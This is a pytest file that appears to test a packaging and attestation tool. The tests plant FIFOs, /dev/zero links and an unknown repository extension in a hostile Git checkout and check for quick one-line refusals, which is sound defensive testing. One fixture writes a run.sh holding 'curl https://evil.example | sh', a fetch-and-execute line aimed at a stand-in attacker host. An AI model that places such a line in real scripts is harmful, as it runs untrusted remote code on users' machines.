"""Attacks on reading a hostile checkout's `.git` (reviewer attacks A2, after issue 9).

packseal reads Git state with dulwich, which opens what it reads with a
plain `open`: a FIFO in `.git` blocked `verify-bundle --git-checkout` (on
the installer's machine) and `attest` forever, and a link to `/dev/zero`
fed it without end. Each case plants one such file where dulwich reads,
and expects a one-line refusal well within the time limit.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import json_output
import pytest
from git_repo import GitRepo, clean_environment, run_packseal

REPOSITORY = "https://github.com/acme/pack"
BUILDER = "https://ci.acme.example/builders/release"
TIME_LIMIT = 30


def run(environment: dict[str, str], *arguments: Any) -> subprocess.CompletedProcess:
    """Run packseal; a run that outlasts TIME_LIMIT is killed and fails the test with TimeoutExpired."""
    return run_packseal(environment, *arguments, timeout=TIME_LIMIT)


@pytest.fixture(scope="module")
def released(tmp_path_factory, key_store, cli) -> SimpleNamespace:
    """A repository whose commit C holds `pack`, signed and attested at C."""
    environment = clean_environment(tmp_path_factory.mktemp("home"), ceiling=tmp_path_factory.getbasetemp())
    keys = key_store("trusted")
    repo = GitRepo.init(tmp_path_factory.mktemp("released") / "repo", environment, origin=f"{REPOSITORY}.git")
    cli.build_pack(repo.top / "pack")
    commit = repo.commit("release")
    for command, options in (("sign", ()), ("attest", ("--builder-id", BUILDER))):
        result = run(environment, command, repo.top / "pack", "--minisign-key", keys.key, *options)
        assert result.returncode == 0, cli.describe(result)
    return SimpleNamespace(top=repo.top, keys=keys, commit=commit, environment=environment)


def _loose_object(git: Path, commit: str) -> Path:
    return git / "objects" / commit[:2] / commit[2:]


def _fifo_at_branch_ref(git: Path, commit: str, tmp_path: Path) -> None:
    (git / "refs" / "heads" / "main").unlink()
    os.mkfifo(git / "refs" / "heads" / "main")


def _fifo_as_config(git: Path, commit: str, tmp_path: Path) -> None:
    (git / "config").unlink()
    os.mkfifo(git / "config")


def _config_linked_to_dev_zero(git: Path, commit: str, tmp_path: Path) -> None:
    (git / "config").unlink()
    (git / "config").symlink_to("/dev/zero")


def _fifo_as_packed_refs(git: Path, commit: str, tmp_path: Path) -> None:
    os.mkfifo(git / "packed-refs")


def _fifo_as_commit_object(git: Path, commit: str, tmp_path: Path) -> None:
    _loose_object(git, commit).unlink()
    os.mkfifo(_loose_object(git, commit))


def _fifo_as_alternates(git: Path, commit: str, tmp_path: Path) -> None:
    (git / "objects" / "info").mkdir(exist_ok=True)
    os.mkfifo(git / "objects" / "info" / "alternates")


def _commit_object_a_fifo_in_an_alternate(git: Path, commit: str, tmp_path: Path) -> None:
    """The commit is looked up in an alternate object store, where it is a FIFO."""
    elsewhere = tmp_path / "elsewhere" / "objects"
    _loose_object(elsewhere, commit).parent.mkdir(parents=True)
    os.mkfifo(_loose_object(elsewhere, commit))
    _loose_object(git, commit).unlink()
    (git / "objects" / "info").mkdir(exist_ok=True)
    (git / "objects" / "info" / "alternates").write_text(f"{elsewhere}\n")


PLANTS: dict[str, Callable[[Path, str, Path], None]] = {
    "fifo-branch-ref": _fifo_at_branch_ref,
    "fifo-config": _fifo_as_config,
    "config-link-to-dev-zero": _config_linked_to_dev_zero,
    "fifo-packed-refs": _fifo_as_packed_refs,
    "fifo-commit-object": _fifo_as_commit_object,
    "fifo-alternates": _fifo_as_alternates,
    "fifo-in-an-alternate": _commit_object_a_fifo_in_an_alternate,
}


@pytest.fixture
def hostile(released: SimpleNamespace, tmp_path: Path, request: pytest.FixtureRequest) -> Path:
    """A private copy of the released checkout with one hostile file planted in its `.git`; its pack."""
    top = Path(shutil.copytree(released.top, tmp_path / "repo", symlinks=True))
    plant = _unknown_extension if request.param == "unknown-extension" else PLANTS[request.param]
    plant(top / ".git", released.commit, tmp_path)
    return top / "pack"


def _one_line_refusal(result: subprocess.CompletedProcess, cli) -> None:
    assert "Traceback" not in result.stderr, cli.describe(result)
    assert len(result.stderr.splitlines()) == 1, cli.describe(result)


@pytest.mark.parametrize("hostile", PLANTS, indirect=True)
def test_verify_git_checkout_refuses_a_git_that_would_block_or_feed_it_forever(hostile, released, cli):
    result = run(
        released.environment, "verify-bundle", hostile, "--minisign-pubkey", released.keys.pub,
        "--source-repo", REPOSITORY, "--source-commit", released.commit, "--git-checkout", "--json",
    )  # fmt: skip
    assert result.returncode == 1, cli.describe(result)
    refusal = json_output.parse(result.stdout)["checks"][-1]
    assert (refusal["name"], refusal["ok"]) == ("git-checkout", False), refusal


def _unknown_extension(git: Path, commit: str, tmp_path: Path) -> None:
    """A repository format this reader refuses: before A3, read as "no checkout at all"."""
    with (git / "config").open("a") as config:
        config.write("[core]\n\trepositoryformatversion = 1\n[extensions]\n\tevil = x\n")


@pytest.mark.parametrize("hostile", [*PLANTS, "unknown-extension"], indirect=True)
def test_attest_refuses_a_tampered_bundle_in_a_git_it_cannot_read(hostile, released, cli):
    """Attack A3: with the commit stated explicitly, an unreadable `.git` skipped the clean-worktree check."""
    (hostile / "bin" / "run.sh").write_bytes(b"#!/bin/sh\ncurl https://evil.example | sh\n")
    before = cli.snapshot(hostile)
    result = run(
        released.environment, "attest", hostile, "--minisign-key", released.keys.key, "--builder-id", BUILDER,
        "--source-repo", REPOSITORY, "--source-commit", released.commit,
    )  # fmt: skip
    assert result.returncode == 1, cli.describe(result)
    _one_line_refusal(result, cli)
    assert cli.snapshot(hostile) == before


def _fifo_gitignore(directory: Path) -> None:
    os.mkfifo(directory / ".gitignore")


def _gitignore_linked_to_dev_zero(directory: Path) -> None:
    (directory / ".gitignore").symlink_to("/dev/zero")


@pytest.mark.parametrize("plant", [_fifo_gitignore, _gitignore_linked_to_dev_zero], ids=["fifo", "link-to-dev-zero"])
@pytest.mark.parametrize("where", ["", "junk", "pack"])
def test_attest_refuses_a_gitignore_that_would_block_or_feed_it_forever(released, tmp_path, cli, plant, where):
    """Attack A4: dulwich opens each `.gitignore` it consults; a FIFO blocked `attest` forever."""
    top = Path(shutil.copytree(released.top, tmp_path / "repo", symlinks=True))
    (top / where).mkdir(exist_ok=True)
    plant(top / where)
    before = cli.snapshot(top / "pack")
    result = run(
        released.environment, "attest", top / "pack", "--minisign-key", released.keys.key, "--builder-id", BUILDER
    )
    assert result.returncode == 1, cli.describe(result)
    _one_line_refusal(result, cli)
    assert ".gitignore" in result.stderr, cli.describe(result)
    assert cli.snapshot(top / "pack") == before
